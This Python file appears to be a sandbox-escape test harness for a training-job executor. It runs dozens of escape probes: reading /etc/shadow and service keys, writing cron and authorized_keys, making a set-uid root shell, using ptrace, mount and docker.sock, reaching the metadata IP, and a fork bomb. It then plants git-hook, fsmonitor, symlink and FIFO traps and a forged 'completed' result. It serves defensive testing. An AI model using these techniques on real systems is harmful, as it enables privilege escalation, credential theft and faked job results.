"""A training that tries to get out. Each probe raises what stopped it; one that returns has got out.

Pushed as it is, with `WORLD` put before it: what an attacker would have found out about the machine.
"""

# ruff: noqa: PTH101, PTH103, PTH104, PTH113, PTH120, PTH123, PTH207, PTH211, S103, S108
# mypy: ignore-errors
from __future__ import annotations

import ctypes
import glob
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import time
import urllib.request

WORLD = globals().get("WORLD", {})
RUN = os.path.dirname(os.environ.get("TRAINFORGE_PARAMS_FILE", "/nowhere/x"))
OUTPUT = os.environ.get("TRAINFORGE_OUTPUT_DIR", "/nowhere")
libc = ctypes.CDLL(None, use_errno=True)


def read(pattern):
    found = [path for path in glob.glob(pattern, recursive=True) if os.path.isfile(path)]
    assert found, "nothing there"
    for path in found:
        with open(path, "rb") as file:
            assert file.read(), "empty"


def write(path):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "a") as file:
        file.write("# owned\n")
    if WORLD["inner_tmp"]:  # what stands in a folder of the sandbox's own is not out
        assert not path.startswith("/tmp/"), "only within"


def call(number):
    if number < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def environments():
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            with open(path, "rb") as file:
                if b"VICTIM_TOKEN=" in file.read():
                    return
        except OSError:
            continue
    raise AssertionError("not seen")


def processes():
    seen = []
    for path in glob.glob("/proc/[0-9]*/cmdline"):
        with open(path, "rb") as file:
            seen.append(file.read())
    assert any(b"executor\0start" in line or b"sender\0start" in line for line in seen), len(seen)


def post(url, data=b"a.b.c"):
    request = urllib.request.Request(url, data=data, headers={"Content-Type": "application/jose"})
    urllib.request.urlopen(request, timeout=5)


def connect(path):
    with socket.socket(socket.AF_UNIX) as plug:
        plug.connect(path)


def reach(host, port):
    socket.create_connection((host, port), 3).close()


def replace_output():
    os.rename(OUTPUT, OUTPUT + ".mine")
    os.symlink(WORLD["executor"], OUTPUT)


def bomb():
    """As many processes as can be had; too many are an escape."""
    children = []
    try:
        while len(children) < 1000:
            pid = os.fork()
            if pid == 0:
                signal.pause()
            children.append(pid)
    except OSError as error:
        raise OSError(error.errno, f"after {len(children)} processes") from None
    finally:
        for pid in children:
            os.kill(pid, signal.SIGKILL)
            os.waitpid(pid, 0)


def set_uid_root():
    path = OUTPUT + "/shell"
    shutil.copy("/bin/sh", path)
    os.chmod(path, 0o4755)
    os.chown(path, 0, 0)


def block_device():
    os.mknod(OUTPUT + "/disk", 0o60600, os.makedev(8, 0))


SANDBOX = {
    "files beside the executor": lambda: read(WORLD["root"] + "/*.log"),
    "a file for everybody": lambda: read(WORLD["bait"]),
    "executor's key": lambda: read(WORLD["executor"] + "/*.json"),
    "executor's journals": lambda: read(WORLD["executor"] + "/nodes/*/*.jsonl"),
    "sender's database": lambda: read(WORLD["sender"] + "/*.db"),
    "sender's keys": lambda: read(WORLD["sender"] + "/*key*"),
    "client's token": lambda: read(WORLD["home"] + "/.config/trainforge/*"),
    "sibling's work": lambda: read(WORLD["sibling"] + "/work/*"),
    "sibling's output": lambda: write(WORLD["sibling"] + "/output/planted"),
    "sibling's variables": environments,
    "other processes": processes,
    "stop the sibling": lambda: os.kill(WORLD["sibling_pid"], signal.SIGCONT),
    "stop the executor": lambda: os.kill(WORLD["executor_pid"], signal.SIGCONT),
    "trace the executor": lambda: call(libc.ptrace(0x4206, WORLD["executor_pid"], 0, 0)),
    "hook in the mirror": lambda: write(WORLD["mirror"] + "/hooks/post-checkout"),
    "config of the mirror": lambda: write(WORLD["mirror"] + "/config"),
    "objects of the mirror": lambda: write(WORLD["mirror"] + "/objects/info/alternates"),
    "environments' cache": lambda: write(WORLD["executor"] + "/cache/environments/planted"),
    "its own environment": lambda: write(sys.prefix + "/lib/planted.pth"),
    "data cache": lambda: write(os.environ["TRAINFORGE_DATA_DIR"] + "/planted"),
    "executor's code": lambda: write(WORLD["code"] + "/executor/planted.py"),
    "how it ended": lambda: write(RUN + "/exit.json"),
    "what is to be run": lambda: write(RUN + "/spec.json"),
    "docker": lambda: connect("/var/run/docker.sock"),
    "passwords": lambda: read("/etc/shadow"),
    "accounts": lambda: write("/etc/passwd"),
    "cron": lambda: write("/etc/cron.d/planted"),
    "authorized keys": lambda: write("/root/.ssh/authorized_keys"),
    "outside of /tmp": lambda: write(WORLD["root"] + "/planted"),
    "set-uid root": set_uid_root,
    "block device": block_device,
    "mount": lambda: call(libc.mount(b"none", b"/etc", b"tmpfs", 0, None)),
    "chroot": lambda: os.chroot(OUTPUT),
    "core pattern": lambda: write("/proc/sys/kernel/core_pattern"),
    "its control group": lambda: write("/sys/fs/cgroup/pids/cgroup.procs"),
    "another user": lambda: (
        os.setuid(0) or (_ for _ in ()).throw(OSError("still nobody"))
        if os.geteuid()
        else read("/etc/shadow")
    ),
    "output elsewhere": replace_output,
}
EVERYWHERE = {
    "forged order": lambda: post(WORLD["door"] + "/v1/orders"),
    "sender without token": lambda: post(WORLD["url"] + "/api/join-tokens", b"{}"),
    "too many processes": bomb,
}
OFFLINE = {
    "metadata": lambda: reach("169.254.169.254", 80),
    "sender's port": lambda: reach("127.0.0.1", WORLD["port"]),
}


def leave_a_daemon():
    code = "import time; time.sleep(600)"
    subprocess.Popen(
        [sys.executable, "-c", f"import os\nif os.fork(): os._exit(0)\nos.setsid()\n{code}", WORLD["daemon"]]
    ).wait()


def plant():
    """What the executor is to stumble over once it looks at what the job wrote."""
    secret = WORLD["bait"]
    for name in ("7.stdout", "7.stderr"):
        os.symlink(secret, f"{RUN}/logs/{name}")
    os.mkfifo(f"{RUN}/logs/8.stdout")
    os.symlink(secret, f"{RUN}/ranks/9.json")
    with open(f"{RUN}/ranks/10.json", "w") as file:
        file.write("[" * 5000)
    os.symlink(WORLD["planted"], f"{RUN}/restarts/1.aside")
    open(f"{RUN}/restarts/x.asked", "w").close()
    os.symlink(secret, OUTPUT + "/link.txt")
    os.mkfifo(OUTPUT + "/pipe")
    os.makedirs("lightning_logs/version_0")
    os.symlink(secret, "lightning_logs/version_0/metrics.csv")
    with open(OUTPUT + "/result.json", "w") as file:
        file.write('{"outcome": "completed", "metrics": {"accuracy": 1.0}}')
    trap = f"touch {WORLD['planted']}"
    os.makedirs(".git/hooks", exist_ok=True)
    with open(".git/config", "a") as file:
        file.write(f"[core]\n\tfsmonitor = {trap}\n\thooksPath = hooks\n\tsshCommand = {trap}\n")
        file.write(f'[filter "own"]\n\tsmudge = {trap}\n\tclean = {trap}\n')
        file.write(f"[credential]\n\thelper = !{trap}\n")
    for hook in ("post-checkout", "pre-commit", "post-index-change"):
        with open(f".git/hooks/{hook}", "w") as file:
            file.write(f"#!/bin/sh\n{trap}\n")
        os.chmod(f".git/hooks/{hook}", 0o755)
    with open(".gitattributes", "w") as file:
        file.write("* filter=own\n")


def main(which):
    held, out = {}, []
    for name, probe in which.items():
        try:
            probe()
        except BaseException as error:  # noqa: BLE001 - whatever stopped it
            held[name] = f"{type(error).__name__}: {error}"[:200]
        else:
            out.append(name)
    with open("probes.json", "w") as file:
        json.dump({"held": held, "out": out, "uid": os.getuid(), "pid": os.getpid()}, file)
    os.makedirs("outputs", exist_ok=True)
    shutil.copy("probes.json", "outputs/probes.json")
    leave_a_daemon()
    plant()
    print('{"n":99,"kind":"ended","time":1,"data":{"exit_code":0,"code":"","reason":""}}')
    print("x" * 1_000_000)
    print("all tried", time.time(), flush=True)
